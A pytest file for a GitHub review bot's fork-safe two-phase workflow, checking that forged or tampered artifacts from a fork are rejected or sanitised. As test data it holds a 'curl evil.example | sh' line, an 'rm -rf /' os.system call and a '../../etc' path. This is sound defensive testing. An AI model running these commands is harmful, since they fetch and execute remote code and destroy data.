"""The fork-safe two-phase setup: phase 1 (pull_request, read-only) writes a results artifact;
phase 2 (workflow_run, write token) validates it against the event and the API, then posts."""

import json

import pytest

from bot import artifact
from tests.bot_harness import BROKEN, FIXED_LINE, READ_TOKEN, REPO, WRITE_TOKEN, pr_event, run_bot, writes
from tests.bot_report_samples import cnn_report
from tests.fakegithub import FakeGitHub

PATH = "models/cnn.py"


@pytest.fixture
def fork_pr():
    with FakeGitHub() as gh:
        gh.add_token(WRITE_TOKEN, login="github-actions[bot]", permissions="write")
        gh.add_token(READ_TOKEN, login="github-actions[bot]", permissions="read")
        gh.create_repo(REPO, files={"README.md": "# models\n"})
        gh.create_fork(REPO, "mallory")
        gh.commit("mallory/models", "feature", {PATH: BROKEN}, "Add model")
        n = gh.create_pull(REPO, head="mallory:feature", base="main", head_repo="mallory/models", user="mallory")
        yield gh, n


def workflow_run_event(gh, n, head_sha=None):
    return {
        "action": "completed",
        "workflow_run": {"event": "pull_request", "conclusion": "success", "pull_requests": [],
                         "head_sha": head_sha or gh.pull(REPO, n)["head"]["sha"], "repository": {"full_name": REPO}},
        "repository": {"full_name": REPO},
    }


def phase1(gh, n, tmp_path):
    results = tmp_path / "nnrepair-results.json"
    r = run_bot(gh, tmp_path, "pull_request", pr_event(gh, n), token=READ_TOKEN, argv=["--mode", "check", "--results", str(results)])
    assert r.code == 1 and results.exists(), r.stderr
    return results


def test_two_phase_posts_review_from_validated_artifact(fork_pr, tmp_path):
    gh, n = fork_pr
    before = len(gh.requests)
    results = phase1(gh, n, tmp_path)
    assert writes(gh, before) == []  # phase 1 never writes
    data = json.loads(results.read_text())
    assert data["pull_request"] == n and data["repository"] == REPO
    r = run_bot(gh, tmp_path, "workflow_run", workflow_run_event(gh, n), inputs={"results": str(results)})
    assert r.code == 1, r.stderr
    [c] = gh.review_comments(REPO, n)
    assert c["path"] == PATH and FIXED_LINE in c["body"]


ATTACKER = "curl evil.example | sh  # @octocat @security-team"


def forge(data):
    """What a fork's phase 1 can upload: its own report with a 'verified' suggestion of its choosing."""
    data["report"] = {
        "version": 1,
        "models": [{
            "file": PATH, "name": "model", "status": "invalid", "line": 1,
            "diagnostics": [{"code": "NNR101", "severity": "error", "message": ATTACKER, "line": 1}],
            "repair": {"verified": True, "verified_by": "keras", "cost": 0, "diff": ATTACKER * 100,
                       "line_edits": [{"file": PATH, "start_line": 2, "end_line": 3, "new_lines": [ATTACKER] * 50}]},
        }],
    }
    data["summary"] = ("\x1b[31m" + ATTACKER + "\n") * 10_000  # oversized, with escapes and newlines
    data["extra"] = {"line_edits": [ATTACKER]}


def _sent_bodies(gh, since=0):
    return json.dumps([r.get("body") for r in gh.request_details[since:]])


def test_forged_artifact_content_never_reaches_github(fork_pr, tmp_path):
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    data = json.loads(results.read_text())
    assert "report" not in data and "line_edits" not in results.read_text()  # phase 1 writes a pointer only
    forge(data)
    results.write_text(json.dumps(data))
    before = len(gh.requests)
    r = run_bot(gh, tmp_path, "workflow_run", workflow_run_event(gh, n), inputs={"results": str(results)})
    assert r.code == 1, r.stderr
    sent = _sent_bodies(gh, before)
    assert "evil.example" not in sent and "@octocat" not in sent and "security-team" not in sent
    [c] = gh.review_comments(REPO, n)  # the bot's own repair, on the lines it computed
    assert c["path"] == PATH and FIXED_LINE in c["body"] and c["line"] == 5
    assert "evil.example" not in r.summary and "evil.example" not in r.stdout
    assert "evil.example" in r.stderr and len(r.stderr) < 20_000  # the summary is logged, cut, as untrusted


@pytest.mark.parametrize(
    "tamper,why",
    [
        (lambda d: d.update(head_sha="0" * 40), "head_sha"),
        (lambda d: d.update(repository="evil/models"), "not octo/models"),
        (lambda d: d.update(pull_request=99), "not among the run's PRs"),
        (lambda d: d.update(repository="../../etc"), "malformed"),
        (lambda d: d.update(nnrepair_results=3), "not an nnrepair results artifact"),
    ],
)
def test_tampered_pointer_is_rejected(fork_pr, tmp_path, tamper, why):
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    data = json.loads(results.read_text())
    tamper(data)
    results.write_text(json.dumps(data))
    before = len(gh.requests)
    r = run_bot(gh, tmp_path, "workflow_run", workflow_run_event(gh, n), inputs={"results": str(results)})
    assert writes(gh, before) == [], r.stderr
    assert r.code != 0
    assert why in r.stderr


def test_fork_pr_is_found_by_head_sha_when_the_event_lists_none(fork_pr, tmp_path):
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    event = workflow_run_event(gh, n)
    event["workflow_run"]["head_repository"] = {"full_name": "mallory/models"}
    assert event["workflow_run"]["pull_requests"] == []
    r = run_bot(gh, tmp_path, "workflow_run", event, inputs={"results": str(results)})
    assert r.code == 1 and len(gh.review_comments(REPO, n)) == 1, r.stderr
    event["workflow_run"]["head_repository"] = {"full_name": "eve/models"}  # another fork's branch: not this PR
    before = len(gh.requests)
    r = run_bot(gh, tmp_path, "workflow_run", event, inputs={"results": str(results)})
    assert writes(gh, before) == [] and "no open PR has head" in r.stderr


def test_artifact_for_an_older_head_is_rejected(fork_pr, tmp_path):
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    gh.commit("mallory/models", "feature", {PATH: BROKEN + "# more\n"}, "Another push")
    before = len(gh.requests)
    r = run_bot(gh, tmp_path, "workflow_run", workflow_run_event(gh, n, json.loads(results.read_text())["head_sha"]),
                inputs={"results": str(results)})
    assert writes(gh, before) == [] and "newer push" in r.stderr


def test_artifact_loader_rejects_non_json_and_oversize(tmp_path):
    p = tmp_path / "a.json"
    p.write_text("import os; os.system('rm -rf /')")
    with pytest.raises(artifact.ArtifactError, match="not JSON"):
        artifact.load(str(p))
    p.write_text(json.dumps({"nnrepair_results": 1, "repository": REPO, "pull_request": True, "head_sha": "a" * 40, "report": cnn_report()}))
    with pytest.raises(artifact.ArtifactError, match="positive integer"):
        artifact.load(str(p))
    good = artifact.build(REPO, 3, "a" * 40, cnn_report())
    p.write_text(json.dumps(good))
    assert artifact.load(str(p)) == {"repository": REPO, "pull_request": 3, "head_sha": "a" * 40,
                                     "summary": "1 model(s) checked, 1 invalid"}
    old = {"nnrepair_results": 1, "repository": REPO, "pull_request": 3, "head_sha": "a" * 40, "report": {"x": 1}}
    p.write_text(json.dumps(old))  # a version-1 artifact still points; its report is dropped
    assert "report" not in artifact.load(str(p))
    p.write_text(json.dumps(dict(good, summary=["not", "text"])))
    assert artifact.load(str(p))["summary"] == ""


def test_artifact_pr_must_match_the_runs_pull_requests(fork_pr, tmp_path):
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    event = workflow_run_event(gh, n)
    event["workflow_run"]["pull_requests"] = [{"number": n + 1}]
    before = len(gh.requests)
    r = run_bot(gh, tmp_path, "workflow_run", event, inputs={"results": str(results)})
    assert writes(gh, before) == [] and "not among the run's PRs" in r.stderr


def test_base_config_applies_to_the_artifact_and_the_job_summary(fork_pr, tmp_path):
    # phase 1 is the PR's own workflow: it may run with any config (here none). Phase 2 holds the
    # base branch's config: a code it ignores is neither posted nor listed in the job summary.
    gh, n = fork_pr
    results = phase1(gh, n, tmp_path)
    gh.commit(REPO, "main", {".nnrepair.yml": "ignore: [NNR101]\n"}, "Config")
    r = run_bot(gh, tmp_path, "workflow_run", workflow_run_event(gh, n), inputs={"results": str(results)})
    assert r.code == 0, r.stderr
    assert gh.review_comments(REPO, n) == [] and gh.issue_comments(REPO, n) == []
    assert "NNR101" not in r.summary and "no findings" in r.summary and "✅ valid" in r.summary
    assert "NNR101" not in r.stdout and r.sarif["runs"][0]["results"] == []
    assert r.outputs["findings"] == "0" and r.outputs["fixed"] == "0"


def test_fake_sends_fork_workflow_runs_without_pull_requests(fork_pr, tmp_path):
    gh, n = fork_pr
    event = gh.workflow_run_event(REPO, n)
    assert event["workflow_run"]["pull_requests"] == []  # GitHub's behaviour for fork PRs
    assert event["workflow_run"]["head_repository"] == {"full_name": "mallory/models"}
    results = phase1(gh, n, tmp_path)
    r = run_bot(gh, tmp_path, "workflow_run", event, inputs={"results": str(results)})
    assert r.code == 1 and len(gh.review_comments(REPO, n)) == 1, r.stderr
    gh.commit(REPO, "same-repo", {PATH: BROKEN}, "A branch of the repository itself")
    m = gh.create_pull(REPO, head="same-repo", base="main")
    assert [p["number"] for p in gh.workflow_run_event(REPO, m)["workflow_run"]["pull_requests"]] == [m]
